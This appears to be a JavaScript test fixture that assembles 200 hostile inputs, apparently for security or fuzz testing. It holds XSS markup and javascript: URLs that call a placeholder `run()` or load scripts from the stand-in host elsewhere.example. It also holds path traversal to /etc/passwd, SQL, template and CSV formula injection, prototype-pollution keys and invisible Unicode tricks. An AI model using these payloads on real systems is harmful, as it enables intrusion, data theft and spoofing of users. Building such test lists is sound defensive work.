// 200 texts that have meant something else than themselves somewhere: markup, addresses, characters that nobody sees,
// names that objects have, commands. What would run calls `run()`; what would be asked for is at `elsewhere.example`.

const RUN = 'run()';
const AWAY = 'https://elsewhere.example/';

const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}a.js"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${AWAY}a.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${AWAY}">`,
  `<link rel=stylesheet href="${AWAY}a.css">`,
  `<style>@import "${AWAY}b.css"; * { display: none }</style>`,
  `<base href="${AWAY}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action="${AWAY}"><button autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<math><mi xlink:href="javascript:${RUN}">`,
  `<template><script>${RUN}</script></template>`,
  `<a href="javascript:${RUN}">a</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>`,
];
/** What may stand before markup, to get out of where it was put. */
const OUT_OF = ['', '">', "'>", '</title>', '</textarea>', '-->'];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  'file:///etc/passwd',
  '//elsewhere.example/',
  '\\\\elsewhere.example\\a',
  'https:elsewhere.example',
  'https://checker.example@elsewhere.example/',
  'https://elsewhere.example%2f@checker.example/',
  'https://еlsewhere.example/',
  'https://xn--lsewhere-2fg.example/',
  'blob:https://elsewhere.example/a',
  'about:blank#1BA',
  `mailto:a@b.example?bcc=c@elsewhere.example&body=${RUN}`,
  'tel:*%2306%23',
  'intent://elsewhere.example#Intent;scheme=https;end',
];

const UNSEEN = [
  '\u202egpj.exe',
  '\u2066\u2067\u2068\u2069',
  '\u200b\u200c\u200d\u2060\ufeff',
  '\u00ad\u034f\u061c\u17b4\u180e',
  '\ufe0f\u{e0041}\u{e0100}',
  'a' + '\u0301'.repeat(300),
  '\ufdfd'.repeat(50),
  '\ud800',
  '\udfff\ud800',
  '\uffff\ufffe',
  '\0',
  '\0\u0001\u0002\u001b[2J\u0007',
  '\r\n\r\nHTTP/1.1 200 OK',
  '\u2028\u2029',
  '\u0130\u0131ſẞ',
  '＜script＞run()＜/script＞',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  'ก\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47',
  '\u0627\u0644\u0639\u0631\u0628\u064a\u0629',
  '\ufff9\ufffa\ufffb',
];

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'length',
  'undefined',
  'null',
  'NaN',
  'true',
  '[object Object]',
  'location',
  'document',
  'app',
  'main',
];

const COMMANDS = [
  '${run()}',
  '{{run()}}',
  '{{constructor.constructor("run()")()}}',
  '<%= run() %>',
  '#{run()}',
  "';run();//",
  '";run();//',
  '`;run();//',
  '</script><script>run()//',
  "' OR 1=1 --",
  '=1+1',
  '@SUM(1)',
  '+cmd|calc!A0',
  '%s%n%x',
  '%00',
  '%3Cscript%3Erun()%3C/script%3E',
  '%253Cscript%253Erun()%253C/script%253E',
  '&lt;script&gt;run()&lt;/script&gt;',
  '&#60;script&#62;run()',
  '\\u003cscript\\u003erun()',
  '\\x3cscript\\x3erun()',
  '../../../../etc/passwd',
  '..%2f..%2fapi',
  'expression(run())',
  'url(https://elsewhere.example/c.png)',
  '}*{background:url(https://elsewhere.example/d.png)}',
  ']]>',
  '<!--',
  '{"answers":{"__proto__":{"x":1}}}',
  '[[[[[[[[',
];

/** Long enough to hurt, and short enough to be put in. */
const LONG = ['x', '<b>', '"', '%25', '#', '好', '\u202e', '1BA', '[', ' '].map((it) => it.repeat(20_000 / it.length));

const marked = OUT_OF.flatMap((out) => MARKUP.map((it) => out + it));
/** All of them, 200, each once. */
export const PAYLOADS = [...ADDRESSES, ...UNSEEN, ...NAMES, ...COMMANDS, ...LONG];
PAYLOADS.push(...marked.slice(0, 200 - PAYLOADS.length));
